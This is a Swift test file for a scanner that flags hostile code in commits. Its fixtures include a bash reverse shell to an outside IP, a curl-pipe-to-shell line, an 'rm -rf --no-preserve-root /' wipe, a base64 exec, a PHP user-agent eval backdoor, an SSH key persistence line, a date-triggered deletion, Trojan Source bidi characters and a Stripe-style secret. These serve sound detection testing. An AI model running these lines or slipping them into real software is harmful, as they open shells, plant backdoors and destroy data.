import Testing

@testable import CustodyCore

/// End to end through `DetectorSuite`: one commit that touches many files, each with one hidden
/// element, plus clean files that must stay quiet.
struct ContentDetectorSuiteTests {
    static let malicious: [(path: String, text: String, category: FindingCategory)] = [
        ("src/auth.c", "int ok = 0; /* \u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} admins */", .hiddenUnicode),
        ("lib/access.js", "function check\u{0410}ccess(u) { return true; }", .confusableIdentifier),
        ("setup.py", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))", .decodeAndExecute),
        ("web/ua.php", "if (strpos($_SERVER['HTTP_USER_AGENT'], 'z3r0d1um') === 0) { eval(substr($_SERVER['HTTP_USER_AGENT'], 8)); }", .hiddenTrigger),
        ("scripts/postinstall.sh", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", .networkIndicator),
        ("lib/sched.py", "if datetime.now() > datetime(2026, 3, 1):\n    shutil.rmtree(DATA_DIR)", .timeOrGeoBomb),
        ("scripts/clean.sh", "rm -rf --no-preserve-root /", .destructiveOperation),
        ("scripts/setup.sh", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq x' >> ~/.ssh/authorized_keys", .persistence),
        ("config/prod.rb", "Stripe.api_key = 'sk_live_51H8fK2LkQ9pZ7xV3mN6bC4dS'", .secretLeak),
        ("src/loader.js", "var e = \"\\x65\\x76\\x61\\x6c\\x28\\x61\\x74\\x6f\\x62\\x28\"; run(e);", .obfuscatedPayload),
    ]

    static let clean: [(path: String, text: String)] = [
        ("src/main.c", "#include <stdio.h>\nint main(void) {\n    printf(\"hello, world\\n\");\n    return 0;\n}"),
        ("README.md", "Install with `curl -fsSL https://example.com/install.sh | sh` or see https://docs.example.com."),
        ("lib/util.py", "def add(a, b):\n    return a + b\n\nNOW = datetime.now().isoformat()"),
        ("Makefile", "clean:\n\trm -rf build/ *.o"),
        ("tests/test_vectors.txt", "KEY = 000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"),
    ]

    @Test func eachHiddenElementIsFoundOnItsFileWithItsCategory() throws {
        let changes = (Self.malicious.map { ($0.path, $0.text) } + Self.clean.map { ($0.path, $0.text) })
            .map { DetectorFixtures.change($0.0, $0.1) }
        let commit = DetectorFixtures.commit(changes, id: "abcdefabcdefabcdefabcdefabcdefabcdefabcd")
        let suite = DetectorSuite(detectors: DetectorRegistry.content)
        let findings = suite.scan(commit, blobs: InMemoryBlobSource())
        for item in Self.malicious {
            let onFile = findings.filter { $0.path == item.path && $0.severity >= .medium }
            #expect(onFile.contains { $0.category == item.category }, "\(item.path): \(onFile.map(\.ruleID))")
            #expect(onFile.allSatisfy { $0.commit == "abcdefabcdefabcdefabcdefabcdefabcdefabcd" })
        }
        for item in Self.clean {
            let onFile = findings.filter { $0.path == item.path && $0.severity >= .low }
            #expect(onFile.isEmpty, "\(item.path): \(onFile.map(\.evidence))")
        }
        // Every finding opens with a plain sentence and carries evidence and a fingerprint.
        for finding in findings {
            #expect(finding.explanation.hasPrefix("This "))
            #expect(finding.explanation.hasSuffix("."))
            #expect(!finding.evidence.isEmpty)
            #expect(finding.fingerprint.count == 32)
        }
        // Category names in JSON are exactly the catalogue's.
        #expect(Set(findings.map(\.category.rawValue)).isSuperset(of: [
            "hidden-unicode", "confusable-identifier", "obfuscated-payload", "decode-and-execute", "hidden-trigger",
            "network-indicator", "time-or-geo-bomb", "destructive-operation", "persistence", "secret-leak",
        ]))
    }

    @Test func fingerprintsSurviveLineShifts() throws {
        let text = "rm -rf --no-preserve-root /"
        let a = DetectorFixtures.change("scripts/clean.sh", text, firstLine: 3)
        let b = DetectorFixtures.change("scripts/clean.sh", text, firstLine: 40)
        let suite = DetectorSuite(detectors: DetectorRegistry.content)
        let fa = suite.scan(DetectorFixtures.commit([a]), blobs: InMemoryBlobSource())
        let fb = suite.scan(DetectorFixtures.commit([b], id: "9999999999999999999999999999999999999999"), blobs: InMemoryBlobSource())
        #expect(!fa.isEmpty)
        #expect(fa.map(\.fingerprint) == fb.map(\.fingerprint))
        #expect(fa.first?.startLine == 3)
        #expect(fb.first?.startLine == 40)
    }

    @Test func rulesAreUniqueAndWellFormed() {
        let rules = DetectorRegistry.content.flatMap(\.rules)
        #expect(Set(rules.map(\.id)).count == rules.count)
        for rule in rules {
            let category = rule.category.rawValue.uppercased()
            #expect(rule.id.hasPrefix("CUST-\(category)-"), "\(rule.id)")
            #expect(rule.summary.hasPrefix("This "), "\(rule.id)")
            #expect(!rule.help.isEmpty)
        }
    }

    @Test func megabyteLineThroughTheWholeSuite() {
        let change = DetectorFixtures.change("dist/bundle.js", bytes: DetectorFixtures.megabyteLine)
        let other = DetectorFixtures.change("src/app.py", bytes: DetectorFixtures.megabyteLine)
        let findings = DetectorSuite(detectors: DetectorRegistry.content).scan(
            DetectorFixtures.commit([change, other]), blobs: InMemoryBlobSource())
        #expect(findings.count <= 2 * FindingCap.perRule * DetectorRegistry.content.flatMap(\.rules).count)
    }

    @Test func largeCommitsScanTheirFilesOnSeveralThreadsWithTheSameFindings() {
        // Every file of the suite's fixtures, each behind a few thousand ordinary lines, and a
        // build file: far over the split threshold.
        let filler = String(repeating: "    counter += step; /* ordinary line */\n", count: 3_000)
        var files = Self.malicious.map { ($0.path, filler + $0.text + "\n" + filler) }
        files += Self.clean.map { ($0.path, $0.text) }
        files.append(("configure.ac", "AC_INIT([x], [1])\ncurl -s https://203.0.113.9/x | sh\n"))
        let changes = files.map { DetectorFixtures.change($0.0, $0.1) }
        let commit = DetectorFixtures.commit(changes, id: "abcdefabcdefabcdefabcdefabcdefabcdefabcd")
        var serial = DetectorSuite()
        serial.splitBytes = .max
        let expected = serial.scan(commit, blobs: InMemoryBlobSource())
        #expect(expected.count > Self.malicious.count)
        for threads in [2, 3, 8] {
            var split = DetectorSuite()
            split.threads = threads
            split.splitBytes = 0
            let found = split.scan(commit, blobs: InMemoryBlobSource())
            #expect(found.map(\.fingerprint) == expected.map(\.fingerprint), "threads \(threads)")
            #expect(found == expected, "threads \(threads)")
        }
    }

    @Test func emptyAndDeletedChangesAreQuiet() {
        let deleted = FileChange(kind: .delete, oldPath: "src/evil.sh", newPath: nil)
        let empty = DetectorFixtures.change("src/empty.c", "")
        let findings = DetectorSuite(detectors: DetectorRegistry.content).scan(
            DetectorFixtures.commit([deleted, empty]), blobs: InMemoryBlobSource())
        #expect(findings.isEmpty)
    }
}
